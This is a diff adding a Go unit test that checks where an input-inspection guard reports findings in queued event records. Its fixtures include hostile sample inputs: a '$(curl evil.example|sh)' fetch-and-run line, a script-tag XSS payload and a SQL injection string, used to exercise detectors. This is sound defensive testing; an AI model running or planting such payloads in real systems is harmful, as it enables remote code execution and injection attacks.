@@ -301,6 +301,39 @@ func TestRecords(t *testing.T) {
 	}
 }
 
+// Locations inside records are absolute whatever found them: a detector,
+// a limit, a malformed body or a policy check.
+func TestRecordLocations(t *testing.T) {
+	g, _ := newTestGuard(t, WithMaxStringBytes(64), WithAllowEventTypes("ok"))
+	long := strings.Repeat("a", 65)
+	tests := []struct {
+		name string
+		rec  Record
+		loc  string
+	}{
+		{"detector in JSON body", Record{EventType: "ok", Body: []byte(`{"a":[1,{"b":"<script>alert(1)</script>"}]}`)}, "records[1].body.a[1].b"},
+		{"detector in text body", Record{EventType: "ok", Body: []byte(`$(curl evil.example|sh)`)}, "records[1].body"},
+		{"detector in JSON field", Record{EventType: "ok", Fields: []Field{{Loc: "dynamodb.NewImage", Value: `{"note":{"S":"' OR 1=1--"}}`, JSON: true}}}, "records[1].dynamodb.NewImage.note.S"},
+		{"string too long in a JSON field", Record{EventType: "ok", Fields: []Field{{Loc: "detail", Value: `{"k":"` + long + `"}`, JSON: true}}}, "records[1].detail"},
+		{"string too long in a sniffed body", Record{EventType: "ok", Body: []byte(`{"k":"` + long + `"}`)}, "records[1].body"},
+		{"invalid UTF-8", Record{EventType: "ok", Body: []byte("caf\xe9")}, "records[1].body"},
+		{"JSON too deep", Record{EventType: "ok", Body: []byte(strings.Repeat("[", 100) + strings.Repeat("]", 100))}, "records[1].body"},
+		{"event type", Record{EventType: "nope"}, "records[1].eventType"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			inv := &Invocation{Source: SourceSQS, Records: []Record{{EventType: "ok", Body: []byte(`{"clean":true}`)}, tc.rec}}
+			d := g.Inspect(context.Background(), inv)
+			if len(d.Findings) == 0 || d.Findings[0].Location != tc.loc || d.Findings[0].Record != 1 {
+				t.Fatalf("want a finding at %s in record 1: %+v", tc.loc, d.Findings)
+			}
+			if strings.Contains(d.Reason, "records[1].records[1]") {
+				t.Fatalf("doubled prefix in %q", d.Reason)
+			}
+		})
+	}
+}
+
 func TestAccountAllowlist(t *testing.T) {
 	const home = "123456789012"
 	eb := func(source, account string) Record {
